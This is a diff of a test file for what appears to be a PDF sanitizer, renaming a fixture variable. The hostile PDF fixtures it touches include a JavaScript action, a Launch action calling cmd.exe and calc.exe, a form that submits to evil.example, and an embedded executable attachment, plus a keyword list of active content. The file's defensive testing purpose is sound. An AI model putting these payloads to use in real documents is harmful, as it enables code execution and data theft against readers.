@@ -25,7 +25,7 @@ const alert = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
 const launch = '<</S/Launch/F(calc.exe)/Win<</F(cmd.exe)>>>>';
 const activeWords = ['app.alert', 'JavaScript', 'OpenAction', 'Launch', 'calc.exe', 'cmd.exe'];
 const box = '/Type/Annot/Rect[0 0 50 50]';
-const look = buildPdfStream(
+const appearance = buildPdfStream(
   '1 0 0 rg 0 0 50 50 re f',
   '/Type/XObject/Subtype/Form/BBox[0 0 50 50]',
 );
@@ -99,7 +99,7 @@ const pdfsToSanitize: readonly HostileFile[] = [
     () =>
       buildOnePagePdf({
         page: `/Annots[<<${box}/Subtype/Widget/FT/Btn/AP<</N 5 0 R>>/A<</S/SubmitForm/F(http://evil.example/)>>>>]`,
-        more: [look],
+        more: [appearance],
       }),
     ['evil.example', 'SubmitForm', 'Widget'],
   ),
@@ -109,7 +109,10 @@ const pdfsToSanitize: readonly HostileFile[] = [
       buildOnePagePdf({
         catalog: '/AcroForm<</Fields[6 0 R]/NeedAppearances true>>',
         page: '/Annots[6 0 R]',
-        more: [look, `<<${box}/Subtype/Widget/FT/Tx/T(a)/V(b)/AP<</N 5 0 R>>/AA<</K ${alert}>>>>`],
+        more: [
+          appearance,
+          `<<${box}/Subtype/Widget/FT/Tx/T(a)/V(b)/AP<</N 5 0 R>>/AA<</K ${alert}>>>>`,
+        ],
       }),
     [...activeWords, 'AcroForm', 'Widget'],
   ),
@@ -136,7 +139,7 @@ const pdfsToSanitize: readonly HostileFile[] = [
     () =>
       buildOnePagePdf({
         page: `/Annots[<<${box}/Subtype/FileAttachment/FS 5 0 R/AP<</N 7 0 R>>>>]`,
-        more: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', buildPdfStream(program), look],
+        more: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', buildPdfStream(program), appearance],
       }),
     ['FileAttachment', 'a.exe', 'cannot be run'],
   ),
@@ -145,7 +148,7 @@ const pdfsToSanitize: readonly HostileFile[] = [
     () =>
       buildOnePagePdf({
         page: `/Annots[<<${box}/Subtype/RichMedia/RichMediaContent 5 0 R/AP<</N 6 0 R>>>>]`,
-        more: [buildPdfStream('FWS'), look],
+        more: [buildPdfStream('FWS'), appearance],
       }),
     ['RichMedia', 'FWS'],
   ),
